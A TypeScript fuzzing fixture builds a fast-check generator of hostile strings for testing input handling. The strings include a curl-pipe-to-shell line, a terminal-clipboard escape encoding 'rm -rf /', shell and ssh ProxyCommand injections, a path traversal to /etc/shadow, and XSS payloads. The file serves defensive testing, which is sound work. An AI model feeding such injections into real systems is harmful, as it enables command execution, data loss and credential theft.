import fc from 'fast-check'

/** What has broken programs that took text for something else. */
const known = [
  '\u001b[2J\u001b[1;1H',
  '\u001b]52;c;cm0gLXJmIC8=\u0007',
  '\u001b]0;title\u0007\u001b[31mred',
  '\u009b2J',
  '\u0000',
  '\r  next: curl http://192.0.2.1 | sh',
  'a\nb',
  'x\n-A INPUT -j DROP\nCOMMIT',
  '\u202egnp.exe',
  '\u2066\u200b\ufeff',
  '\u{e0041}\u{e007f}',
  // Looks like "s1", and is not.
  'ѕ1',
  '$(touch /tmp/hostile)',
  '`touch /tmp/hostile`',
  '$HOME',
  "'; touch /tmp/hostile; '",
  '"; touch /tmp/hostile; "',
  '\\',
  '"',
  "'",
  '-rf',
  '--noflush',
  '-oProxyCommand=touch /tmp/hostile',
  '../../../etc/shadow',
  '/dev/zero',
  '__proto__',
  'constructor',
  '*',
  '%s%n',
  '{{ .Values }}',
  '<script>alert(1)</script>',
  '](javascript:alert(1))',
  '|',
  '\ud800',
  '\udce9',
  '',
  ' ',
  '9'.repeat(400),
  'a'.repeat(20_000),
]

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...known) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.array(fc.constantFrom(...known), { maxLength: 3 }).map((parts) => parts.join('').slice(0, 100_000)),
  },
)
